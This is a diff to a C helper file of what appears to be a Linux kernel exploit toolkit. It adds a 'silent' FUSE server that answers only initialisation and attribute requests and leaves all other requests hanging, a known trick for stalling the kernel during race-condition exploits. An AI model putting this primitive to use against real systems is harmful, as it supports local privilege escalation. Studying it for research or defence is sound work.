@@ -2,6 +2,7 @@
 #include "attack.h"
 
 #include <fcntl.h>
+#include <linux/fuse.h>
 #include <pthread.h>
 #include <stdarg.h>
 #include <stdbool.h>
@@ -9,6 +10,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/uio.h>
 #include <unistd.h>
 
 #define MOST 256
@@ -140,4 +143,27 @@ void start_thread(void *(*run)(void *), void *argument)
 
     if (pthread_create(&thread, NULL, run, argument) != 0)
         fail("a thread");
+}
+
+static void reply(int device, uint64_t unique, const void *data, size_t size)
+{
+    struct fuse_out_header header = {.len = (uint32_t)(sizeof header + size), .unique = unique};
+    struct iovec parts[] = {{&header, sizeof header}, {(void *)data, size}};
+
+    if (writev(device, parts, 2) < 0)
+        fail("reply");
+}
+
+void serve_silent_fuse(int device)
+{
+    static char buffer[1 << 17];
+    struct fuse_in_header *request = (struct fuse_in_header *)buffer;
+    struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
+    struct fuse_attr_out attributes = {.attr = {.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2}};
+
+    while (read(device, buffer, sizeof buffer) >= (ssize_t)sizeof *request)
+        if (request->opcode == FUSE_INIT)
+            reply(device, request->unique, &init, sizeof init);
+        else if (request->opcode == FUSE_GETATTR)
+            reply(device, request->unique, &attributes, sizeof attributes);
 }
